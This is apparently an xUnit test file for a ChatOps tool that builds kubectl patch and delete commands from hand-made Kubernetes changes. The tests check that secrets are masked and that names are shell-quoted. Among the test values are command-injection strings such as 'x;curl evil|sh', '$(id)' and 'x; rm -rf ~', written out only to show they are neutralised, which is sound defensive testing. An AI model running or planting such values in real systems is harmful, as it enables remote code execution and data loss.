using System.Text.Json;
using ChatOps.Core.Reconciliation;
using ChatOps.Platform.ArgoCd.Diffs;

namespace ChatOps.Platform.Tests.ArgoCd.Diffs;

/// <summary>What hands did comes back as a command that a person can run, with nothing secret in it.</summary>
public class HandPatchTests
{
    private const string Config = """{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"checkout-config","namespace":"shop"},"data":{"MODE":"it's good","LEVEL":"info"}}""";

    private const string Deployment = """
        {"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"checkout","namespace":"shop"},"spec":{"replicas":6,"template":{"spec":{"containers":[
          {"name":"app","image":"shop:2","env":[{"name":"MODE","value":"good"},{"name":"DB_PASSWORD","value":"hunter2"}],"ports":[{"name":"http","containerPort":8080,"protocol":"TCP"}]}]}}}}
        """;

    [Fact]
    public void Fields_are_put_back_as_they_are_and_no_others() => Assert.Equal(
        """kubectl patch configmap checkout-config --namespace shop --type strategic --patch '{"data":{"MODE":"it'\''s good"}}'""",
        Of(Config, null, Changed("data", "MODE")));

    [Fact]
    public void An_element_of_a_list_is_named_and_not_numbered() => Assert.Equal(
        """kubectl patch deployment.v1.apps checkout --namespace shop --type strategic --patch '{"spec":{"replicas":6,"template":{"spec":{"containers":[{"name":"app","image":"shop:2","env":[{"name":"MODE","value":"good"}]}]}}}}'""",
        Of(Deployment, null, Changed("spec", "replicas"), Changed("spec", "template", "spec", "containers", "name=app", "image"), Changed("spec", "template", "spec", "containers", "name=app", "env", "name=MODE", "value")));

    [Fact]
    public void A_port_carries_all_that_kubernetes_knows_it_by() => Assert.Contains(
        """ports":[{"name":"http","containerPort":8080,"protocol":"TCP"}]""",
        Of(Deployment, null, Added("spec", "template", "spec", "containers", "name=app", "ports", "name=http")), StringComparison.Ordinal);

    [Fact]
    public void What_hands_took_out_is_taken_out_again()
    {
        var git = Deployment.Replace("""{"name":"MODE","value":"good"}""", """{"name":"MODE","value":"good"},{"name":"OLD","value":"1"}""", StringComparison.Ordinal).Replace("\"replicas\"", "\"paused\":true,\"replicas\"", StringComparison.Ordinal);

        var command = Of(Deployment, git, Removed("spec", "template", "spec", "containers", "name=app", "env", "name=OLD"), Removed("spec", "paused"));

        Assert.Contains("""{"name":"OLD","$patch":"delete"}""", command, StringComparison.Ordinal);
        Assert.Contains("\"paused\":null", command, StringComparison.Ordinal);
    }

    [Fact]
    public void Kinds_that_kubernetes_does_not_know_by_heart_get_whole_lists()
    {
        var rollout = Deployment.Replace("apps/v1", "argoproj.io/v1alpha1", StringComparison.Ordinal).Replace("Deployment", "Rollout", StringComparison.Ordinal).Replace("DB_PASSWORD", "DB", StringComparison.Ordinal);

        var command = Of(rollout, null, Changed("spec", "template", "spec", "containers", "name=app", "image"));

        Assert.StartsWith("kubectl patch rollout.v1alpha1.argoproj.io checkout --namespace shop --type merge", command, StringComparison.Ordinal);
        Assert.Contains("\"containerPort\":8080", command, StringComparison.Ordinal);
    }

    [Fact]
    public void A_whole_list_with_a_secret_beside_what_changed_is_in_no_command() => Assert.Null(Of(
        Deployment.Replace("apps/v1", "argoproj.io/v1alpha1", StringComparison.Ordinal).Replace("Deployment", "Rollout", StringComparison.Ordinal), null,
        Changed("spec", "template", "spec", "containers", "name=app", "image")));

    [Theory]
    [InlineData("db.pass=hunter2", "db.pass=")]
    [InlineData("smtp_pass_1: hunter2", "smtp_pass_1: ")]
    [InlineData("\"api-key\": \"hunter2\"", "\"api-key\": ")]
    public void Of_a_line_that_gives_a_secret_the_name_is_shown(string line, string shown) =>
        Assert.Equal($"a=1\n{shown}{Masking.Masked}\nb=2", Masking.Show("ConfigMap", Path("data", "app"), JsonSerializer.SerializeToElement($"a=1\n{line}\nb=2")));

    [Theory]
    [InlineData("SMTP_PASS")]
    [InlineData("PGPASS")]
    [InlineData("KEY_PASSPHRASE")]
    public void Short_names_of_secrets_are_known(string name) =>
        Assert.Equal(Masking.Masked, Masking.Show("Deployment", Path("spec", "env", $"name={name}", "value"), Parse("\"hunter2\"")));

    [Theory]
    [InlineData("spec", "template", "spec", "containers", "name=app", "env", "name=DB_PASSWORD", "value")]
    [InlineData("spec", "template", "spec", "containers", "name=app", "env", "name=DB_PASSWORD")]
    [InlineData("spec", "template", "spec", "containers", "name=app")]
    public void A_secret_is_in_no_command(params string[] path) => Assert.Null(Of(Deployment, null, Changed(path)));

    [Fact]
    public void What_is_secret_is_said_to_be_in_no_command_and_nothing_else_is() =>
        Assert.Equal([null, NoWayBack.Secret], NoWays(Deployment, Changed("spec", "replicas"), Changed("spec", "template", "spec", "containers", "name=app", "env", "name=DB_PASSWORD", "value")));

    [Fact]
    public void A_list_that_is_in_no_command_for_a_secret_beside_it_is_said_to_be_in_none() =>
        Assert.Equal([NoWayBack.Secret, null], NoWays(
            Deployment.Replace("apps/v1", "argoproj.io/v1alpha1", StringComparison.Ordinal).Replace("Deployment", "Rollout", StringComparison.Ordinal),
            Changed("spec", "template", "spec", "containers", "name=app", "image"), Changed("spec", "replicas")));

    [Fact]
    public void A_file_with_a_secret_in_it_is_in_no_command_and_its_line_in_no_card()
    {
        var config = Config.Replace("\"it's good\"", "\"url=x\\ndb.password = hunter2\\nlevel=1\"", StringComparison.Ordinal);

        Assert.Null(Of(config, null, Changed("data", "MODE")));
        Assert.Equal("url=x\ndb.password = (secret, not shown)\nlevel=1", Masking.Show("ConfigMap", Path("data", "MODE"), Path("data", "MODE").In(Parse(config))));
    }

    /// <summary>What is masked where people read it is in no command either.</summary>
    [Theory]
    [InlineData("repo: https://glpat-abcdef@git.example.com/shop.git", "glpat-abcdef")]
    [InlineData("url redis://hunter2@cache:6379", "hunter2")]
    [InlineData("helm upgrade --set db.pw=hunter2", "hunter2")]
    [InlineData("db.password = hunter2", "hunter2")]
    public void A_credential_in_an_address_or_an_option_is_in_no_command_and_no_card(string line, string secret)
    {
        var (file, list) = (Config.Replace("it's good", $"a=1\\n{line}", StringComparison.Ordinal), Config.Replace("\"it's good\"", $"[\"{line}\"]", StringComparison.Ordinal));

        Assert.DoesNotContain(secret, Masking.Show("ConfigMap", Path("data", "MODE"), Path("data", "MODE").In(Parse(file))), StringComparison.Ordinal);
        Assert.Null(Of(file, null, Changed("data", "MODE")));
        Assert.Null(Of(list, null, Changed("data", "MODE")));
    }

    [Theory]
    [InlineData("https://hunter2@cache")]
    [InlineData("--set db.pw=hunter2")]
    public void A_credential_in_a_list_is_not_shown(string argument) =>
        Assert.DoesNotContain("hunter2", Masking.Show("Deployment", Path("spec", "args"), Parse($"[\"{argument}\",\"x\"]")), StringComparison.Ordinal);

    /// <summary>They have the suffix of Kubernetes' own and are definitions like any other.</summary>
    [Theory]
    [InlineData("gateway.networking.k8s.io/v1", "HTTPRoute", "merge")]
    [InlineData("snapshot.storage.k8s.io/v1", "VolumeSnapshot", "merge")]
    [InlineData("networking.k8s.io/v1", "Ingress", "strategic")]
    [InlineData("rbac.authorization.k8s.io/v1", "Role", "strategic")]
    public void Only_what_the_api_server_knows_by_heart_gets_a_strategic_patch(string version, string kind, string type) => Assert.Contains(
        $" --type {type} ",
        Of(Config.Replace("\"v1\"", $"\"{version}\"", StringComparison.Ordinal).Replace("ConfigMap", kind, StringComparison.Ordinal), null, Changed("data", "LEVEL")), StringComparison.Ordinal);

    [Theory]
    [InlineData("system:aggregate-to-view", " system:aggregate-to-view --namespace")]
    [InlineData("x;curl evil|sh", " 'x;curl evil|sh' --namespace")]
    [InlineData("it's $(id)", @" 'it'\''s $(id)' --namespace")]
    public void A_name_is_a_word_for_the_shell_and_nothing_else(string name, string said) => Assert.Contains(said, Called(name), StringComparison.Ordinal);

    /// <summary>No API server has seen what an application's status only claims.</summary>
    [Theory]
    [InlineData("x;id", "v1", "shop", "kubectl delete 'x;id' config --namespace shop")]
    [InlineData("ConfigMap", "v1", "shop;id", "kubectl delete configmap config --namespace 'shop;id'")]
    [InlineData("Role", "$(id)/v1", "shop", "kubectl delete 'role.v1.$(id)' config --namespace shop")]
    [InlineData("--all", "v1", "shop", null)]
    [InlineData("ConfigMap", "v1", "--all", null)]
    public void Of_what_was_deleted_every_part_is_a_word_for_the_shell(string kind, string version, string ns, string? command) =>
        Assert.Equal(command, HandPatch.Delete(kind, version, ns, "config"));

    [Fact]
    public void What_is_called_like_an_option_gets_no_command() => Assert.Null(Called("--kubeconfig=x"));

    /// <summary>Chats take out what nobody sees, and what is pasted from there would be another file.</summary>
    [Fact]
    public void What_nobody_sees_is_written_out() => Assert.Contains(
        """{"LEVEL":"\uFEFFgr\u00FC\u200Dn \uD83C\uDF89"}""", Of(Config.Replace("\"info\"", "\"\ufeffgr\u00fc\u200dn 🎉\"", StringComparison.Ordinal), null, Changed("data", "LEVEL")), StringComparison.Ordinal);

    [Fact]
    public void What_only_git_changed_is_not_what_hands_did() => Assert.Null(Of(Config, null, new FieldDrift(Path("data", "MODE"), new("", null, null, DriftClass.Changed, null, null))));

    [Fact]
    public void An_object_that_was_deleted_is_deleted_again_by_its_full_name()
    {
        Assert.Equal("kubectl delete deployment.v1.apps checkout --namespace shop", ResourceDiff.Of(new("Deployment", "shop", "checkout", Parse(Deployment), default) { WasDeployed = true }).PutBack);
        Assert.Equal("kubectl delete clusterrole.v1.rbac.authorization.k8s.io viewer", HandPatch.Delete("ClusterRole", "rbac.authorization.k8s.io/v1", "", "viewer"));
        Assert.Equal("kubectl delete role.v1.rbac.authorization.k8s.io 'x; rm -rf ~' --namespace shop", HandPatch.Delete("Role", "rbac.authorization.k8s.io/v1", "shop", "x; rm -rf ~"));
        Assert.Null(HandPatch.Delete("Role", "rbac.authorization.k8s.io/v1", "shop", "--all"));
        Assert.Null(HandPatch.Delete("Deployment", "", "shop", "checkout"));
        Assert.Null(ResourceDiff.Of(new("Deployment", "shop", "checkout", default, Parse(Deployment)) { WasDeployed = true }).PutBack);
    }

    [Fact]
    public void An_object_that_was_never_there_is_missing_and_nothing_deletes_it_again()
    {
        var missing = ResourceDiff.Of(new("Deployment", "shop", "checkout", Parse(Deployment), default));

        Assert.Equal((DriftClass.Missing, null), (Assert.Single(missing.Fields).Class, missing.PutBack));
    }

    [Fact]
    public void A_whole_file_is_put_back_from_standard_input()
    {
        var file = string.Join("\\n", Enumerable.Range(0, 500).Select(line => $"it's line {line}"));

        Assert.Equal(
            "kubectl patch configmap checkout-config --namespace shop --type strategic --patch-file /dev/stdin <<'EOF'\n{\"data\":{\"MODE\":\"" + file + "\"}}\nEOF",
            Of(Config.Replace("it's good", file, StringComparison.Ordinal), null, Changed("data", "MODE")));
    }

    [Fact]
    public void Long_values_that_begin_alike_are_told_apart()
    {
        var (one, other) = (new string('x', 400) + "1", new string('x', 400) + "2");

        Assert.NotEqual(Show(one), Show(other));
        Assert.NotEqual(Live($"a\n{one}"), Live($"a\n{other}"));
    }

    [Fact]
    public void A_secret_far_into_a_value_leaves_no_trace()
    {
        string Object(string secret) => $$"""{"a":"{{new string('x', 400)}}","password":"{{secret}}"}""";

        Assert.Equal(Masking.Show("Thing", Path("spec", "it"), Parse(Object("hunter2"))), Masking.Show("Thing", Path("spec", "it"), Parse(Object("hunter3"))));
        Assert.Equal(Show(new string('x', 400) + "\npassword=hunter2"), Show(new string('x', 400) + "\npassword=hunter3"));
    }

    [Fact]
    public void What_is_too_long_to_be_kept_is_in_no_command_and_takes_nothing_with_it()
    {
        var config = Config.Replace("it's good", new string('x', 70_000), StringComparison.Ordinal);

        Assert.Equal("""kubectl patch configmap checkout-config --namespace shop --type strategic --patch '{"data":{"LEVEL":"info"}}'""", Of(config, null, Changed("data", "MODE"), Changed("data", "LEVEL")));
        Assert.Equal([NoWayBack.TooLong, null], NoWays(config, Changed("data", "MODE"), Changed("data", "LEVEL")));
        Assert.Null(Of(config, null, Changed("data", "MODE")));
    }

    private static string? Of(string live, string? git, params FieldDrift[] found) => HandPatch.Of(Parse(live), git is null ? default : Parse(git), found).Command;

    private static string? Called(string name) => Of(Config.Replace("checkout-config", name, StringComparison.Ordinal), null, Changed("data", "LEVEL"));

    private static string? Show(string value) => Masking.Show("ConfigMap", Path("data", "app"), JsonSerializer.SerializeToElement(value));

    private static string? Live(string value) => Masking.Lines("ConfigMap", Path("data", "app"), JsonSerializer.SerializeToElement("a\nb"), JsonSerializer.SerializeToElement(value)).Live;

    private static IReadOnlyList<NoWayBack?> NoWays(string live, params FieldDrift[] found) => [.. HandPatch.Of(Parse(live), default, found).Fields.Select(field => field.NoWay)];

    private static FieldDrift Changed(params string[] path) => Drift(DriftClass.Changed, path);

    private static FieldDrift Added(params string[] path) => Drift(DriftClass.AddedByHand, path);

    private static FieldDrift Removed(params string[] path) => Drift(DriftClass.Removed, path);

    private static FieldDrift Drift(DriftClass sort, string[] path) => new(Path(path), new("", null, null, sort, "kubectl-edit", null));

    private static FieldPath Path(params string[] steps) => new([.. steps.Select(step => step.Split('=') is [var key, var name] ? new Segment(name, key) : new Segment(step))]);

    private static JsonElement Parse(string json)
    {
        using var document = JsonDocument.Parse(json);
        return document.RootElement.Clone();
    }
}
